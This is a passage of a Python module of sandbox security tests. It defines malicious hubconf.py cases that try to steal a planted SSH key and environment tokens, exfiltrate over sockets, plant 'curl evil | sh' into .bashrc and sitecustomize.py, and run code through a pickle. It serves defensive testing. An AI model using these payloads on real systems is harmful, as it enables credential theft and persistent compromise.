"""Malicious hubconf.py files, one attack each, as data: what to plant, what to run, what to check.

Used by ``tests/security/test_attacks.py`` (which asserts every case is blocked) and by
``benchmarks/attack_matrix.py`` (which counts what each sandbox configuration blocks). Importing
this module is cheap: it imports neither torch nor safehub.

A case is a :class:`Case`: a name, a category, the body of its ``hubconf.py``, how it is called
(``list``: the attack runs while the worker imports hubconf.py, no torch needed; ``load``: an
entrypoint ``entry`` is called with ``returns="weights"``, for the result channel), extra
``Sandbox`` settings, a ``setup`` that plants canaries (a secret file, a listener, a victim
process, a protected file) and a ``check`` that looks at them afterwards and returns True when
the attack was blocked. :func:`run_case` runs one case in one sandbox configuration.

The hubconf's parameters (paths, pids, ports) come from ``params.json`` beside it; the secret
itself is never in it, so the attacker knows where a secret is but not what it is. Every attack
prints ``ATTACK-RAN <name> <outcome> <data>`` (flushed) before and after it tries, so a case whose
marker never shows up did not run, and its verdict is worthless rather than "blocked".

Resource attacks are bounded so that with no sandbox at all they cannot hurt a 2-core, 24 GiB
machine: 2 GiB of memory at most, 200 processes (the one at the default limit: that plus 16, 600 at
most), 256 MiB of disk, 20 CPU seconds, 20 MB of output.
"""

from __future__ import annotations

import contextlib
import functools
import hashlib
import io
import json
import os
import re
import resource
import signal
import socket
import stat
import subprocess
import sys
import tempfile
import textwrap
import threading
import time
import uuid
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

MIB = 1024 * 1024
MARKER = re.compile(r"^\[worker\] ATTACK-RAN (\S+) (\S+) ?(.*)$", re.M)
DEFAULT_TIMEOUT = 30.0

# Sandbox configurations by name (Sandbox(layers=...)); the tests use the first two.
CONFIGS: dict[str, dict[str, Any]] = {
    "default": {},
    "no-namespaces": {"layers": ("landlock", "seccomp", "rlimits", "uid_drop")},
}
MATRIX_CONFIGS: dict[str, dict[str, Any]] = {
    "all layers": {"layers": None},
    "no bubblewrap": {"layers": ("namespaces", "landlock", "seccomp", "rlimits", "uid_drop")},
    "namespaces only": {"layers": ("namespaces", "bubblewrap")},
    "landlock only": {"layers": ("landlock",)},
    "seccomp only": {"layers": ("seccomp",)},
    "rlimits only": {"layers": ("rlimits", "uid_drop")},
    "none": {"layers": ()},
}


class NotApplicable(Exception):
    """The machine cannot stage this attack (e.g. no DNS resolver answers here at all)."""


# ---------------------------------------------------------------------------------------------
# What every malicious hubconf.py starts with
# ---------------------------------------------------------------------------------------------

PRELUDE = '''\
"""A malicious hubconf.py from tests/security/attacks.py: it attacks one thing."""
import json
import os
import sys

_HERE = os.path.dirname(os.path.abspath(__file__))
with open(os.path.join(_HERE, "params.json")) as _f:
    P = json.load(_f)


def ran(outcome="start", data=""):
    """The marker the test looks for. Whatever the attack obtained leaves every way it can:
    printed, and as an entrypoint name, so inside the list result too."""
    print(f"ATTACK-RAN {P['name']} {outcome} {data!r}"[:65536], flush=True)
    if data:
        globals()[str(data)[:4096]] = print


def attempt(fn):
    try:
        return "got", fn()
    except Exception as exc:
        return "denied", f"{type(exc).__name__}: {exc}"


def progress(n):
    print(f"ATTACK-RAN {P['name']} progress {n}", flush=True)


def entry():
    """What load() calls; the result-channel attacks define their own."""
    return None

'''

# Building blocks of a forged reply on the result channel (the frame layout of worker/protocol.py).
CHANNEL_LIB = '''
import pickle
import socket
import struct
import time


class Canary:
    """Unpickling this anywhere creates the canary file: the parent must never do it."""

    def __reduce__(self):
        return (exec, ("open(%r, 'w').write('the parent ran my pickle')" % P["pickle_canary"],))


PICKLE = pickle.dumps(Canary())


def channel():
    """The result channel: the worker's only socket."""
    for name in os.listdir("/proc/self/fd"):
        try:
            if os.readlink("/proc/self/fd/" + name).startswith("socket:"):
                return int(name)
        except OSError:
            pass
    raise RuntimeError("no channel socket")


def protocol():
    """The worker's own frame code: the repository's code can use it as the worker does."""
    import sys
    return sys.modules["_safehub_worker.protocol"]


def frame(fields, buffers=(), nfds=0, kind="result"):
    """A frame as the worker's encoder writes it (this protocol version), whatever it claims."""
    return protocol().encode_head(kind, fields, [len(b) for b in buffers], nfds) + b"".join(buffers)


def weights(header, data=b""):
    """A weights payload (safetensors layout) around a header given as bytes or JSON-able data."""
    raw = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(raw)) + raw + data


def result(payload, returns="weights"):
    return frame({"action": "load", "returns": returns, "transport": "inline", "sizes": [len(payload)]}, [payload])


def send(data, fds=(), linger=0.0):
    """Write raw bytes behind the worker's back, then vanish before the worker can answer."""
    ran("sending", f"{len(data)} bytes")
    sock = socket.socket(fileno=os.dup(channel()))
    if fds:
        socket.send_fds(sock, [data], list(fds))
    else:
        sock.sendall(data)
    time.sleep(linger)
    os._exit(0)

'''


# ---------------------------------------------------------------------------------------------
# Cases, contexts and verdicts
# ---------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    """One attack. ``check(ctx, run)`` is True when the canary is untouched (blocked)."""

    name: str
    category: str
    body: str
    check: Callable[[Context, Run], bool]
    setup: Callable[[Context], None] = lambda ctx: None
    mode: str = "list"  # "list" (attack at import) or "load" (entrypoint "entry", returns="weights")
    sandbox: Mapping[str, Any] = field(default_factory=dict)
    blocked_by: str = ""  # the layers meant to stop it (documentation for the matrix)
    # Why a configuration (the Sandbox settings of CONFIGS) cannot stop it by design, as
    # SECURITY.md says; "" where it must. The tests skip such a run with that reason.
    gap: Callable[[Mapping[str, Any]], str] = lambda config: ""

    def hubconf(self) -> str:
        return PRELUDE + (CHANNEL_LIB if self.mode == "load" else "") + textwrap.dedent(self.body)


class Context:
    """Canaries and parameters for one run of one case; everything is undone by ``stack``."""

    def __init__(self, name: str, workdir: Path, hub_dir: Path, stack: contextlib.ExitStack) -> None:
        self.name = name
        self.root = workdir
        self.repo = workdir / "repo"
        self.repo.mkdir(parents=True)
        self.hub_dir = hub_dir
        self.hub_dir.mkdir(parents=True, exist_ok=True)
        self.stack = stack
        self.token = "SECRET" + uuid.uuid4().hex  # never given to the worker
        self.params: dict[str, Any] = {"name": name, "caller_pid": os.getpid()}
        self.env: dict[str, str] = {}  # set in the caller's environment during the call
        self.protected: dict[Path, tuple[bytes, int]] = {}
        self.protected_dirs: dict[Path, list[str]] = {}
        self.facts: dict[str, Any] = {}

    # -- canaries ------------------------------------------------------------------------------

    def fake_home(self) -> Path:
        """A home folder with an SSH key and a file named after the secret; HOME points at it."""
        home = self.root / "home"
        (home / ".ssh").mkdir(parents=True, exist_ok=True)
        key = home / ".ssh" / "id_ed25519"
        key.write_text(f"-----BEGIN OPENSSH PRIVATE KEY-----\n{self.token}\n-----END OPENSSH PRIVATE KEY-----\n")
        key.chmod(0o600)
        (home / f"notes-{self.token}.txt").write_text("private notes\n")
        self.protect(home / ".bashrc", b"# the user's own .bashrc\n")
        self.env["HOME"] = str(home)
        self.params.update(home=str(home), secret_file=str(key))
        return home

    def protect(self, path: Path, content: bytes = b"protected: must stay as it is\n") -> Path:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)
        self.protected[path] = (content, stat.S_IMODE(path.stat().st_mode))
        self.params["target"] = str(path)
        return path

    def protect_dir(self, path: Path) -> Path:
        path.mkdir(parents=True, exist_ok=True)
        (path / "README").write_text("nothing else belongs here\n")
        self.protected_dirs[path] = sorted(os.listdir(path))
        self.params["target_dir"] = str(path)
        return path

    def intact(self) -> bool:
        for path, (content, mode) in self.protected.items():
            try:
                if path.is_symlink() or path.read_bytes() != content or stat.S_IMODE(path.stat().st_mode) != mode:
                    return False
            except OSError:
                return False
        return all(sorted(os.listdir(p)) == listing for p, listing in self.protected_dirs.items())

    def canary_process(self) -> subprocess.Popen[str]:
        """A victim process of the caller's user: the secret in its memory and its environment."""
        env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "AWS_SECRET_ACCESS_KEY": self.token}
        proc = subprocess.Popen(
            [sys.executable, "-I", "-c", CANARY_PROCESS],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            text=True,
            env=env,
        )
        self.stack.callback(_stop, proc)
        assert proc.stdin is not None and proc.stdout is not None
        proc.stdin.write(self.token + "\n")  # not on its command line: /proc/<pid>/cmdline is public
        proc.stdin.flush()
        address = int(proc.stdout.readline())
        self.facts["canary"] = proc
        self.params.update(canary_pid=proc.pid, canary_addr=address)
        return proc

    def canary_alive(self) -> bool:
        proc = self.facts["canary"]
        time.sleep(0.1)  # a signal or a write lands within microseconds; the canary polls every 20 ms
        return proc.poll() is None

    def secret_fd(self) -> int:
        """The caller holds the secret file open (as a program using a key would)."""
        fd = os.open(self.params["secret_file"], os.O_RDONLY)
        self.stack.callback(os.close, fd)
        self.params["secret_fd"] = fd
        return fd

    def listener(self, kind: str) -> socket.socket:
        """A listener the worker must not reach; checked afterwards without blocking."""
        if kind == "tcp":
            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            sock.bind(("127.0.0.1", 0))
            sock.listen(8)
            self.params["port"] = sock.getsockname()[1]
        elif kind == "udp":
            sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            sock.bind(("127.0.0.1", 0))
            self.params["port"] = sock.getsockname()[1]
        elif kind == "abstract":
            sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            name = f"safehub-attack-{uuid.uuid4().hex}"
            sock.bind("\0" + name)
            sock.listen(8)
            self.params["abstract_name"] = name
        else:  # a socket file, like an ssh-agent's or docker's (short folder: sun_path holds 108 bytes)
            folder = Path(tempfile.mkdtemp(prefix="sh-agent-"))
            self.stack.callback(_remove, folder)
            sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            sock.bind(str(folder / "agent.sock"))
            sock.listen(8)
            self.env["SSH_AUTH_SOCK"] = str(folder / "agent.sock")
            self.params["socket_path"] = str(folder / "agent.sock")
        sock.setblocking(False)
        self.stack.callback(sock.close)
        self.facts["listener"] = (kind, sock)
        return sock

    def listener_silent(self) -> bool:
        kind, sock = self.facts["listener"]
        try:
            if kind == "udp":
                sock.recvfrom(65536)
            else:
                conn, _ = sock.accept()
                conn.close()
        except BlockingIOError:
            return True
        return False


@dataclass
class Run:
    """What one call produced."""

    stdout: str
    stderr: str
    value: Any
    error: BaseException | None
    elapsed: float
    peak_rss_growth: int  # bytes the caller's peak RSS grew during the call

    def markers(self, name: str) -> list[tuple[str, str]]:
        return [(m[2], m[3]) for m in MARKER.finditer(self.stdout) if m[1] == name]

    def everything(self) -> str:
        """All the worker could get back to the caller: output, result, error and its traceback."""
        parts = [self.stdout, self.stderr, repr(self.value)]
        if self.error is not None:
            parts += [f"{type(self.error).__name__}: {self.error}", str(getattr(self.error, "remote_traceback", ""))]
        return "\n".join(parts)

    def outcomes(self, name: str) -> list[str]:
        return [outcome for outcome, _ in self.markers(name)]

    def max_progress(self, name: str) -> float:
        values = [float(data) for outcome, data in self.markers(name) if outcome == "progress"]
        return max(values, default=0.0)


@dataclass
class Verdict:
    case: Case
    config: str
    applicable: bool
    ran: bool
    blocked: bool
    detail: str
    run: Run | None = None

    def describe(self) -> str:
        """A short account for a failing assertion or the matrix."""
        if self.run is None:
            return self.detail
        error = "" if self.run.error is None else f"{type(self.run.error).__name__}: {str(self.run.error)[:300]}"
        marks = "; ".join(f"{o} {d[:120]}" for o, d in self.run.markers(self.case.name) if o != "progress")
        return f"markers: [{marks}] error: [{error}] stderr tail: {self.run.stderr[-800:]!r}"


# ---------------------------------------------------------------------------------------------
# Running a case
# ---------------------------------------------------------------------------------------------


def run_case(
    case: Case, config: Mapping[str, Any], workdir: Path, *, hub_dir: Path | None = None, config_name: str = ""
) -> Verdict:
    """Plant the canaries, run the malicious hubconf.py under ``Sandbox(**config)``, check them.

    ``workdir`` must be an empty or new folder of the caller's; ``hub_dir`` defaults to one in it.
    """
    import safehub

    workdir.mkdir(parents=True, exist_ok=True)
    with contextlib.ExitStack() as stack:
        ctx = Context(case.name, workdir, hub_dir or workdir / "hub", stack)
        ctx.facts["config"] = dict(config)
        try:
            case.setup(ctx)
        except NotApplicable as exc:
            return Verdict(case, config_name, applicable=False, ran=False, blocked=False, detail=str(exc))
        params = json.dumps(ctx.params)
        assert ctx.token not in params, "the attacker must not be handed the secret"
        (ctx.repo / "params.json").write_text(params)
        hubconf = ctx.repo / "hubconf.py"
        hubconf.write_text(case.hubconf())
        ctx.protected.setdefault(hubconf, (hubconf.read_bytes(), stat.S_IMODE(hubconf.stat().st_mode)))
        sandbox = safehub.Sandbox(**{"timeout": DEFAULT_TIMEOUT, **case.sandbox, **config})
        out, err = io.StringIO(), io.StringIO()
        value: Any = None
        error: BaseException | None = None
        rss_before = _peak_rss()
        start = time.monotonic()
        with _environ(ctx.env), contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            try:
                if case.mode == "list":
                    value = safehub.list(str(ctx.repo), source="local", isolate=sandbox)
                else:
                    value = safehub.load(str(ctx.repo), "entry", source="local", isolate=sandbox, returns="weights")
            except Exception as exc:  # judged by the check: a safehub error is often the right end
                error = exc
        run = Run(out.getvalue(), err.getvalue(), value, error, time.monotonic() - start, _peak_rss() - rss_before)
        ran = bool(run.markers(case.name))
        blocked = bool(case.check(ctx, run))
        return Verdict(case, config_name, applicable=True, ran=ran, blocked=blocked, detail="", run=run)


@contextlib.contextmanager
def _environ(changes: Mapping[str, str]) -> Iterator[None]:
    saved = {name: os.environ.get(name) for name in changes}
    os.environ.update(changes)
    try:
        yield
    finally:
        for name, value in saved.items():
            if value is None:
                os.environ.pop(name, None)
            else:
                os.environ[name] = value


def _peak_rss() -> int:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024


def _stop(proc: subprocess.Popen[str]) -> None:
    if proc.poll() is None:
        proc.kill()
    proc.wait()
    for stream in (proc.stdin, proc.stdout):
        if stream is not None:
            with contextlib.suppress(OSError):
                stream.close()


def _remove(path: Path) -> None:
    import shutil

    shutil.rmtree(path, ignore_errors=True)


CANARY_PROCESS = r"""
import ctypes, sys, time
secret = sys.stdin.readline().strip().encode()
buf = ctypes.create_string_buffer(secret, 64)
print(ctypes.addressof(buf), flush=True)
deadline = time.monotonic() + 300
while time.monotonic() < deadline:
    if buf.value != secret:
        sys.exit(3)  # someone wrote into my memory
    time.sleep(0.02)
"""


# ---------------------------------------------------------------------------------------------
# Checks (True = blocked) and setups shared by several cases
# ---------------------------------------------------------------------------------------------


def no_secret(ctx: Context, run: Run) -> bool:
    return ctx.token not in run.everything()


def files_intact(ctx: Context, run: Run) -> bool:
    return ctx.intact()


def listener_silent(ctx: Context, run: Run) -> bool:
    return ctx.listener_silent()


def canary_alive(ctx: Context, run: Run) -> bool:
    return ctx.canary_alive()


def canary_alive_and_no_secret(ctx: Context, run: Run) -> bool:
    return ctx.canary_alive() and no_secret(ctx, run)


def at_most(limit: float) -> Callable[[Context, Run], bool]:
    """The attack's own progress count (bytes, processes, seconds) stayed within ``limit``."""

    def check(ctx: Context, run: Run) -> bool:
        return run.max_progress(ctx.name) <= limit

    return check


def no_process_named(ctx: Context, run: Run) -> bool:
    """No process of the attack's (unique) name outlived the call; any found is killed here."""
    import psutil

    time.sleep(0.2)
    found = []
    for proc in psutil.process_iter(["name", "status"]):
        if proc.info["name"] == ctx.params["comm"] and proc.info["status"] != psutil.STATUS_ZOMBIE:
            found.append(proc)
    for proc in found:  # ours: the name holds a random tag
        with contextlib.suppress(psutil.Error):
            proc.kill()
    return not found


def clean_failure(ctx: Context, run: Run) -> bool:
    """A forged reply: a safehub error, quickly, no pickle run, no huge allocation in the caller."""
    from safehub.errors import SafeHubError

    return (
        isinstance(run.error, SafeHubError)
        and not os.path.exists(ctx.params["pickle_canary"])
        and run.elapsed < 20
        and run.peak_rss_growth < 1024 * MIB
    )


def with_home(ctx: Context) -> None:
    ctx.fake_home()


def with_canary(ctx: Context) -> None:
    ctx.canary_process()


def with_pickle_canary(ctx: Context) -> None:
    ctx.params["pickle_canary"] = str(ctx.root / "pickle-canary")


def with_comm(ctx: Context) -> None:
    ctx.params["comm"] = "shd-" + uuid.uuid4().hex[:11]  # 15 bytes: the kernel's limit for a name


def _settle(ctx: Context) -> None:
    """Wait (5 s at most) until the tasks of the uid a worker runs as stop changing.

    Without a user namespace of its own a worker may run ``max_processes`` on top of what its uid
    runs when it starts: an earlier call's processes, still dying then, would leave it room.
    """
    from safehub._worker.sandbox import limits

    uid = 65534 if os.geteuid() == 0 else os.getuid()
    deadline, last = time.monotonic() + 5, -1
    while time.monotonic() < deadline:
        now = limits.tasks_of_uid(uid)
        if now == last:
            break
        last = now
        time.sleep(0.1)
    ctx.facts["uid_tasks"] = max(last, 0)


def _nproc_room(ctx: Context) -> int:
    """What a worker may run beyond ``max_processes`` in this configuration: without namespaces
    its limit is on top of what its uid ran when it started (other sessions' workers of uid
    65534, or the caller's own processes), and those may end meanwhile; with them, nothing."""
    layers = ctx.facts["config"].get("layers")
    return ctx.facts.get("uid_tasks", 0) if layers is not None and "namespaces" not in layers else 0


def nproc_at_most(limit: int) -> Callable[[Context, Run], bool]:
    """The fork bomb's own count stayed within ``limit`` (and the room of :func:`_nproc_room`)."""

    def check(ctx: Context, run: Run) -> bool:
        return run.max_progress(ctx.name) <= limit + _nproc_room(ctx)

    return check


def _caller_environ_digest(ctx: Context) -> None:
    with open("/proc/self/environ", "rb") as f:
        ctx.facts["digest"] = hashlib.sha256(f.read()).hexdigest()


def _caller_cwd(ctx: Context) -> None:
    secret_dir = ctx.root / "project"
    secret_dir.mkdir()
    (secret_dir / "secret.txt").write_text(ctx.token + "\n")
    old = os.getcwd()
    os.chdir(secret_dir)
    ctx.stack.callback(os.chdir, old)


def _caller_signal_trap(ctx: Context) -> None:
    if threading.current_thread() is not threading.main_thread():
        raise NotApplicable("a signal handler needs the main thread")
    hits: list[int] = []
    old = signal.signal(signal.SIGUSR1, lambda signum, frame: hits.append(signum))
    ctx.stack.callback(signal.signal, signal.SIGUSR1, old)
    ctx.facts["hits"] = hits


def _caller_not_signalled(ctx: Context, run: Run) -> bool:
    time.sleep(0.05)  # a handler runs at the main thread's next bytecode
    return not ctx.facts["hits"]


@functools.lru_cache(maxsize=1)
def _resolver_answers(name: str) -> bool:
    """Does this machine's resolver answer at all (a name, or 'no such name')? Asked once."""
    answer: list[bool] = []

    def ask() -> None:
        try:
            socket.getaddrinfo(name, 443)
            answer.append(True)
        except socket.gaierror as exc:
            answer.append(exc.errno in (socket.EAI_NONAME, getattr(socket, "EAI_NODATA", -5)))

    thread = threading.Thread(target=ask, daemon=True)
    thread.start()
    thread.join(5)
    return bool(answer and answer[0])


def _dns_setup(ctx: Context) -> None:
    ctx.params["dns_name"] = "example.com"
    if not _resolver_answers(ctx.params["dns_name"]):
        raise NotApplicable("no DNS resolver answers on this machine, so a blocked lookup proves nothing")


def _dns_check(ctx: Context, run: Run) -> bool:
    return not {"resolved", "answered"} & set(run.outcomes(ctx.name))


# ---------------------------------------------------------------------------------------------
# The cases
# ---------------------------------------------------------------------------------------------

FILES = "secret files"
ENV = "secrets in the environment"
NET = "network"
WRITES = "writes outside scratch"
PARENT = "the parent and its processes"
LEFTOVERS = "processes left behind"
RESOURCES = "resources"
TERMINAL = "the caller's terminal"
CHANNEL = "result channel"

CASES: list[Case] = []


def case(name: str, category: str, body: str, check: Callable[[Context, Run], bool], **kw: Any) -> Case:
    new = Case(name, category, body, check, **kw)
    assert all(c.name != name for c in CASES), name
    CASES.append(new)
    return new


# --- secret files ------------------------------------------------------------------------------

case("home_secret_read", FILES, """
    ran()
    ran(*attempt(lambda: open(P["secret_file"]).read()))
""", no_secret, setup=with_home, blocked_by="landlock, namespaces (bwrap root), uid_drop")

case("home_listing", FILES, """
    ran()
    ran(*attempt(lambda: sorted(os.listdir(P["home"]))))
""", no_secret, setup=with_home, blocked_by="landlock, namespaces (bwrap root), uid_drop")


def _symlink_file(ctx: Context) -> None:
    ctx.fake_home()
    (ctx.repo / "data.txt").symlink_to(ctx.params["secret_file"])


case("repo_symlink_to_secret", FILES, """
    ran()
    ran(*attempt(lambda: open(os.path.join(_HERE, "data.txt")).read()))
""", no_secret, setup=_symlink_file, blocked_by="landlock (checks the resolved path), namespaces, uid_drop")


def _symlink_dir(ctx: Context) -> None:
    home = ctx.fake_home()
    (ctx.repo / "vendor").symlink_to(home, target_is_directory=True)


case("repo_symlink_to_home", FILES, """
    ran()
    ran(*attempt(lambda: open(os.path.join(_HERE, "vendor", ".ssh", "id_ed25519")).read()))
""", no_secret, setup=_symlink_dir, blocked_by="landlock, namespaces, uid_drop")

case("proc_self_root", FILES, """
    ran()
    ran(*attempt(lambda: open("/proc/self/root" + P["secret_file"]).read()))
""", no_secret, setup=with_home, blocked_by="landlock, namespaces, uid_drop")

case("proc_caller_root", FILES, """
    ran()
    ran(*attempt(lambda: open(f"/proc/{P['caller_pid']}/root" + P["secret_file"]).read()))
""", no_secret, setup=with_home, blocked_by="pid namespace, landlock (ptrace scope), uid_drop")

case("proc_caller_cwd", FILES, """
    ran()
    ran(*attempt(lambda: open(f"/proc/{P['caller_pid']}/cwd/secret.txt").read()))
""", no_secret, setup=_caller_cwd, blocked_by="pid namespace, landlock, uid_drop")


def _fd_setup(ctx: Context) -> None:
    ctx.fake_home()
    ctx.secret_fd()


case("proc_caller_fd", FILES, """
    ran()
    ran(*attempt(lambda: open(f"/proc/{P['caller_pid']}/fd/{P['secret_fd']}").read()))
""", no_secret, setup=_fd_setup, blocked_by="pid namespace, landlock, uid_drop")

case("hardlink_secret_into_scratch", FILES, """
    ran()
    def steal():
        os.link(P["secret_file"], "stolen")  # the working directory is the worker's scratch
        return open("stolen").read()
    ran(*attempt(steal))
""", no_secret, setup=with_home, blocked_by="landlock (refer), namespaces, uid_drop")

case("exec_cat_secret", FILES, """
    import subprocess
    ran()
    ran(*attempt(lambda: subprocess.run(["cat", P["secret_file"]], capture_output=True, timeout=10).stdout.decode()))
""", no_secret, setup=with_home, blocked_by="seccomp (exec), landlock, namespaces, uid_drop")


# --- secrets in the environment ------------------------------------------------------------------


def _env_tokens(ctx: Context) -> None:
    ctx.env.update(AWS_SECRET_ACCESS_KEY=ctx.token, GITHUB_TOKEN=ctx.token, HF_TOKEN=ctx.token)


case("environ_tokens", ENV, """
    ran()
    # The values of the usual token names only: a caller's real environment stays out of logs.
    names = ("AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "HF_TOKEN")
    ran("got", f"names={sorted(os.environ)} " + " ".join(f"{k}={os.environ.get(k)}" for k in names))
""", no_secret, setup=_env_tokens, blocked_by="env_scrub (always on)")

case("proc_canary_environ", ENV, """
    ran()
    ran(*attempt(lambda: open(f"/proc/{P['canary_pid']}/environ", "rb").read().decode("latin-1")))
""", no_secret, setup=with_canary, blocked_by="pid namespace, landlock (ptrace scope), uid_drop")

case("proc_ancestors_environ", ENV, """
    import hashlib
    ran()
    seen, pid = [], os.getppid()
    while pid > 1 and len(seen) < 20:  # walk up: the caller is somewhere above
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                seen.append(hashlib.sha256(f.read()).hexdigest())  # digests only: a real environ stays out of logs
        except OSError as exc:
            seen.append(f"{pid}:{type(exc).__name__}")
        try:
            with open(f"/proc/{pid}/stat", "rb") as f:
                stat = f.read()
            pid = int(stat[stat.rindex(b")") + 2:].split()[1])
        except (OSError, ValueError):
            break
    ran("got", " ".join(seen))
""", lambda ctx, run: ctx.facts["digest"] not in run.everything(), setup=_caller_environ_digest,
     blocked_by="pid namespace, landlock (ptrace scope), uid_drop")


# --- network -----------------------------------------------------------------------------------

case("tcp_loopback", NET, """
    import socket
    ran()
    def go():
        with socket.create_connection(("127.0.0.1", P["port"]), timeout=5) as s:
            s.sendall(b"exfiltrated")
        return "connected"
    ran(*attempt(go))
""", listener_silent, setup=lambda ctx: ctx.listener("tcp"), blocked_by="net namespace, landlock (TCP)")

case("udp_loopback", NET, """
    import socket
    ran()
    def go():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            return s.sendto(b"exfiltrated", ("127.0.0.1", P["port"]))
    ran(*attempt(go))
""", listener_silent, setup=lambda ctx: ctx.listener("udp"), blocked_by="net namespace, seccomp (UDP)")

case("dns_lookup", NET, """
    import socket
    ran()
    try:
        ran("resolved", repr(socket.getaddrinfo(P["dns_name"], 443)[:1]))
    except socket.gaierror as exc:
        # "no such name" is an answer: the query reached a resolver.
        answered = exc.errno in (socket.EAI_NONAME, getattr(socket, "EAI_NODATA", -5))
        ran("answered" if answered else "denied", str(exc))
""", _dns_check, setup=_dns_setup, blocked_by="net namespace, seccomp (UDP)")

case("abstract_unix_socket", NET, """
    import socket
    ran()
    def go():
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
            s.settimeout(5)
            s.connect("\\0" + P["abstract_name"])
            s.sendall(b"exfiltrated")
        return "connected"
    ran(*attempt(go))
""", listener_silent, setup=lambda ctx: ctx.listener("abstract"), blocked_by="net namespace, landlock (scope)")

case("unix_socket_file", NET, """
    import socket
    ran()
    def go():
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
            s.settimeout(5)
            s.connect(P["socket_path"])  # an ssh-agent, docker.sock, ...
            s.sendall(b"exfiltrated")
        return "connected"
    ran(*attempt(go))
""", listener_silent, setup=lambda ctx: ctx.listener("file"),
     blocked_by="bubblewrap (the socket is not in its root), uid_drop as root; Landlock (ABI <= 7) does not govern connect()")


# --- writes outside scratch --------------------------------------------------------------------

APPEND = """
    ran()
    def go():
        with open(P["target"], "a") as f:
            f.write("\\nimport os; os.system('curl evil | sh')\\n")
        return "written"
    ran(*attempt(go))
"""

case("write_other_cached_repo", WRITES, APPEND, files_intact,
     setup=lambda ctx: ctx.protect(ctx.hub_dir / "victim_repo_main" / "hubconf.py", b"def model():\n    return 1\n"),
     blocked_by="landlock, namespaces, uid_drop")
case("write_trusted_list", WRITES, APPEND, files_intact,
     setup=lambda ctx: ctx.protect(ctx.hub_dir / "trusted_list", b"pytorch_vision\n"),
     blocked_by="landlock, namespaces, uid_drop")


def _bashrc(ctx: Context) -> None:
    home = ctx.fake_home()
    ctx.params["target"] = str(home / ".bashrc")


case("write_home_bashrc", WRITES, APPEND, files_intact, setup=_bashrc, blocked_by="landlock, namespaces, uid_drop")


def _own_repo(ctx: Context) -> None:
    ctx.params["target"] = str(ctx.repo / "hubconf.py")  # run_case protects it


case("write_own_repository", WRITES, APPEND, files_intact, setup=_own_repo,
     blocked_by="landlock (repository read-only), bwrap (read-only bind), uid_drop")


def _sys_path_dir(ctx: Context) -> None:
    folder = ctx.protect_dir(ctx.root / "site-packages")
    sys.path.insert(0, str(folder))
    ctx.stack.callback(sys.path.remove, str(folder))


case("write_caller_sys_path", WRITES, """
    ran()
    def go():
        with open(os.path.join(P["target_dir"], "sitecustomize.py"), "w") as f:
            f.write("import os; os.system('curl evil | sh')\\n")
        return "planted"
    ran(*attempt(go))
""", files_intact, setup=_sys_path_dir, blocked_by="landlock, namespaces, uid_drop")

case("symlink_write_escape", WRITES, """
    ran()
    def go():
        os.symlink(P["target"], "link")  # made in scratch, pointing out of it
        with open("link", "a") as f:
            f.write("pwned\\n")
        return "written"
    ran(*attempt(go))
""", files_intact, setup=lambda ctx: ctx.protect(ctx.root / "protected" / "config.toml"),
     blocked_by="landlock (resolved path), namespaces, uid_drop")

case("rename_out_of_scratch", WRITES, """
    ran()
    def go():
        with open("planted.py", "w") as f:
            f.write("import os\\n")
        os.rename("planted.py", os.path.join(P["target_dir"], "planted.py"))
        return "moved"
    ran(*attempt(go))
""", files_intact, setup=lambda ctx: ctx.protect_dir(ctx.root / "protected_dir"),
     blocked_by="landlock, namespaces, uid_drop")

case("chmod_protected_file", WRITES, """
    ran()
    ran(*attempt(lambda: os.chmod(P["target"], 0o777)))
""", files_intact, setup=lambda ctx: ctx.protect(ctx.root / "protected" / "key.pem"),
     blocked_by="bubblewrap (the file is not in its root), uid_drop as root; Landlock does not govern chmod")

def _metadata_state(path: str) -> tuple[Any, ...]:
    st = os.stat(path)
    attrs = sorted((name, os.getxattr(path, name)) for name in os.listxattr(path))
    return st.st_mode, st.st_uid, st.st_gid, st.st_mtime_ns, st.st_ctime_ns, attrs


def _metadata_canaries(ctx: Context) -> None:
    """The user's key, and as root one of uid 65534 (the worker's own uid after the drop), in a
    folder every uid can traverse: only the seccomp filter stands between them and the worker."""
    folder = Path(tempfile.mkdtemp(prefix="sh-meta-", dir="/tmp"))
    folder.chmod(0o755)
    ctx.stack.callback(_remove, folder)
    owners = {"user-key": None, **({"nobody-key": 65534} if os.geteuid() == 0 else {})}
    for name, owner in owners.items():
        path = folder / name
        path.write_bytes(b"-----BEGIN PRIVATE KEY-----\n")
        path.chmod(0o600)
        os.setxattr(path, "user.tag", b"the user's own")
        if owner is not None:
            os.chown(path, owner, owner)
    ctx.params["targets"] = [str(folder / name) for name in owners]
    ctx.facts["metadata"] = {path: _metadata_state(path) for path in ctx.params["targets"]}


def _metadata_intact(ctx: Context, run: Run) -> bool:
    return all(_metadata_state(path) == state for path, state in ctx.facts["metadata"].items())


case("metadata_of_user_files", WRITES, """
    import ctypes, struct
    libc = ctypes.CDLL(None, use_errno=True)
    AT_FDCWD = -100
    ACL = struct.pack("<I", 2) + b"".join(struct.pack("<HHI", tag, perm, 0xFFFFFFFF) for tag, perm in ((1, 6), (4, 6), (0x20, 6)))
    def raw(nr, *args):  # every int a full register: ctypes passes a bare int as a C int
        args = [ctypes.c_long(a) if isinstance(a, int) else a for a in args]
        if libc.syscall(ctypes.c_long(nr), *args) < 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        return "changed"
    def xattr_args(value):
        buf = ctypes.create_string_buffer(value, len(value))
        KEEP.append(buf)
        return struct.pack("QII", ctypes.addressof(buf), len(value), 0)
